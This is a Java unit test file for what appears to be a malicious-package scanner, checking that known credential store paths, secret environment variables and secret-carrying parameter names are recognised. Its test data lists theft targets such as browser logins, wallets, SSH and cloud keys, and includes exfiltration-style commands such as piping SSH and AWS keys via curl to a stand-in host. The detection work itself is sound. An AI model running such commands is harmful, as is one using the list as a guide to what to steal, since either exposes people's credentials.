package io.pypiguard.behavior.internal.knowledge;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class SecretsTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Login Data | browser-credentials",
        "{}\\Login Data | browser-credentials",
        "{}Login Data | browser-credentials",
        "{}/Default/Login Data | browser-credentials",
        "C:\\\\Users\\\\a\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data | browser-profile",
        "%LOCALAPPDATA%/google/chrome/user data/Default/Network/Cookies | browser-cookies",
        "~/.mozilla/firefox/{}/key4.db | browser-credentials",
        "%APPDATA%\\discord\\Local Storage\\leveldb | discord-token",
        "{}/Local Storage/leveldb/{} | discord-token",
        "{}/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn | wallet",
        "{}\\Exodus\\exodus.wallet\\ | wallet",
        "~/.ssh/id_rsa | ssh-key",
        "{}/.ssh | ssh-key",
        "cat ~/.ssh/id_ed25519 | ssh-key",
        "~/.aws/credentials | cloud-credentials",
        "/home/{}/.pypirc | registry-token",
        ".npmrc | registry-token",
        "~/.git-credentials | git-credentials",
        "{}\\Telegram Desktop\\tdata | messenger-session",
        "{}/.minecraft/launcher_accounts.json | game-session",
        "FileZilla\\recentservers.xml | password-manager",
        "~/Library/Keychains/login.keychain-db | keychain",
        "~/.bash_history | shell-history",
        "{}/.kube/config | kubernetes",
        "/etc/passwd | system-accounts",
        "cat /etc/shadow > {} | system-accounts",
        "/proc/self/environ | environment-file",
        "{}/.env | environment-file"
      })
  void aStoreIsKnownInAnySpelling(String path, String kind) {
    assertThat(Secrets.path(path))
        .hasValueSatisfying(known -> assertThat(known.kind()).isEqualTo(kind));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "{}",
        "login data",
        "Enter your login data below",
        "Cookies",
        "/static/cookies",
        "my.ssh/id_rsa.txtfile",
        "/usr/share/etc/passwords",
        "config.env",
        "process.env",
        "src/wallet.data",
        "google/chrome",
        "user data",
        "key4.db.md"
      })
  void wordsAlikeAreNoStores(String text) {
    assertThat(Secrets.path(text)).isEmpty();
  }

  @Test
  void theLastPartOfAPathCounts() {
    assertThat(Secrets.path("~/.config/google-chrome/Default/Login Data"))
        .map(KnownPath::id)
        .hasValue("chromium-logins");
  }

  @Test
  void aCommandCanNameSeveralStores() {
    assertThat(Secrets.paths("tar c ~/.ssh/id_rsa ~/.aws/credentials | curl -T - https://a.test"))
        .extracting(KnownPath::kind)
        .contains("ssh-key", "cloud-credentials");
  }

  @ParameterizedTest
  @CsvSource({
    "AWS_SECRET_ACCESS_KEY, secret",
    "MYSERVICE_TOKEN, secret",
    "DB_PASSWORD, secret",
    "stripe_api_key, secret",
    "GITHUB_ACTIONS, build",
    "USERNAME, user",
    "COMPUTERNAME, machine",
    "APPDATA, folder"
  })
  void aVariableIsKnownByItsWords(String name, String kind) {
    assertThat(Secrets.variable(name)).map(KnownName::kind).hasValue(kind);
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "PATH", "MAX_TOKENS", "TOKENIZERS_PARALLELISM", "COMPASS", "DEBUG"})
  void variablesAlikeCarryNothing(String name) {
    assertThat(Secrets.variable(name)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "private_key",
        "privateKey",
        "wallet_private_key",
        "secret",
        "clientSecret",
        "mnemonic",
        "seed_phrase",
        "passphrase",
        "password",
        "api_key",
        "token",
        "accessToken",
        "keypair",
        "credentials",
        "_private_key"
      })
  void aParameterIsHandedASecret(String name) {
    assertThat(Secrets.parameterCarriesSecret(name)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "key",
        "public_key",
        "next_token",
        "eos_token",
        "max_tokens",
        "tokenizer",
        "secretary",
        "password_hash",
        "keyword",
        "url"
      })
  void parametersAlikeAreHandedNone(String name) {
    assertThat(Secrets.parameterCarriesSecret(name)).isFalse();
  }
}
